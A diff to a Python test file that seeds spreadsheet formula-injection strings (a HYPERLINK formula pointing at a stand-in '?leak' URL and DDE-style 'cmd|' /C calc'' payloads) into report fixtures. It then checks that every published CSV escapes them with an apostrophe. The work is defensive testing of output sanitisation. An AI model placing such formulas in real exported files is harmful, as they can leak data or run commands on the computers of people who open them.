@@ -33,6 +33,9 @@ RAW_HTML = "U\n```{raw} html\n<script>alert(2)</script>\n```\n"
 MATH = "T $\\frac{1}{$ end"
 SPECIALS = "S % & _ # ~ ^ \\ { } $ end"
 HOSTILE = [SCRIPT, IMG, CLIMB, RAW_LATEX, INCLUDE, RAW_HTML, MATH, SPECIALS]
+#: Spreadsheet formulas (issue 23, case 7): every published CSV must show them, never run them.
+FORMULAS = ['=HYPERLINK("http://example.invalid/?leak","click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+            "+cmd|' /C calc'!A0", "-Z+2*cmd|' /C calc'!A0"]
 
 
 def _hostile_project(root: Path) -> None:
@@ -55,8 +58,18 @@ def _hostile_project(root: Path) -> None:
     seed["challenges"][1]["name"] = CLIMB
     first_pest = next(iter(seed["pest"].values()))
     first_pest[0]["text"] = MATH + " " + IMG
+    for k, text in enumerate(FORMULAS):
+        seed["swot"][quadrants[k]][2]["text"] = text
     folder = root / "data" / "regions" / REGION
     folder.mkdir(parents=True, exist_ok=True)
+    plan = yaml.safe_load((root / "data" / "regions" / "centre-val-de-loire" /
+                           "action_plan.yaml").read_text())
+    plan["region"] = REGION
+    for k, text in enumerate(FORMULAS):
+        plan["actions"][k]["action"] = text
+    plan["interventions"][0]["name"] = FORMULAS[0]
+    (folder / "action_plan.yaml").write_text(yaml.safe_dump(plan, sort_keys=False,
+                                                            allow_unicode=True))
     (folder / "synthesis.yaml").write_text(yaml.safe_dump(seed, sort_keys=False,
                                                           allow_unicode=True))
 
@@ -156,3 +169,34 @@ def test_the_pdf_builds_and_shows_the_text_literally(hostile_build: Path):
     assert "root:x:0:0" not in raw
     if len(hostname) > 12:
         assert hostname not in raw
+
+
+def _formula_cells(text: str) -> list[str]:
+    """Cells a spreadsheet would run as a formula (numbers such as -0.5 are not)."""
+    import csv
+    import io
+
+    number = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
+    return [c for row in csv.reader(io.StringIO(text)) for c in row
+            if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number.fullmatch(c)]
+
+
+def test_no_published_csv_holds_a_live_spreadsheet_formula(hostile_build: Path):
+    """Issue 23, case 7: tables/swot.csv, action_plan.csv, the Gantt CSV, the data package and
+    the site's downloads show each formula with a leading apostrophe."""
+    import zipfile
+
+    run = hostile_build / "runs" / REGION
+    csvs = {f.relative_to(hostile_build).as_posix(): f.read_text("utf-8")
+            for f in [*run.rglob("*.csv"), *(hostile_build / "site").rglob("*.csv")]}
+    with zipfile.ZipFile(hostile_build / "site" / "data" / f"{REGION}-data.zip") as z:
+        csvs.update({f"zip:{n}": z.read(n).decode("utf-8") for n in z.namelist()
+                     if n.endswith(".csv")})
+    assert any("_downloads" in name for name in csvs)
+    for name, text in csvs.items():
+        assert _formula_cells(text) == [], name
+    for name in ("tables/swot.csv", "tables/action_plan.csv", "figures/action_plan_gantt.csv"):
+        shown = csvs[f"runs/{REGION}/{name}"] + csvs[f"zip:{REGION}-data/{name}"]
+        assert "'" + FORMULAS[0].replace('"', '""') in shown, name
+    swot = csvs[f"runs/{REGION}/tables/swot.csv"]
+    assert all("'" + f.replace('"', '""') in swot for f in FORMULAS)
